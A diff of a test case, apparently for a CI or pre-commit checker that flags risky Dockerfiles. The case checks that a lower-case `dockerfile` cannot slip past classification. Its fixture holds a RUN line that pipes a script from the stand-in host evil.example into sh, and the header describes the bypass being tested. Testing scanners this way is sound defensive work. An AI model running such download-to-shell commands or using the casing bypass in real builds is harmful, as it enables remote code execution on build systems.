@@ -1,10 +1,7 @@
 # attack: the build file is named `dockerfile` (lower case, which `docker build` falls back to when there is no `Dockerfile`), so it is not classified as a Dockerfile and its unpinned FROM and download-to-shell RUN are never judged
 # surface: staged, range (CI)
 # expect: block
-new_repo
-write README.md 'hello'
-commit base
-base=$(git rev-parse HEAD)
+base_repo
 write dockerfile 'FROM debian@sha256:0000000000000000000000000000000000000000000000000000000000000000' \
   'RUN curl -fsSL https://evil.example/install.sh | sh'
 git add -A
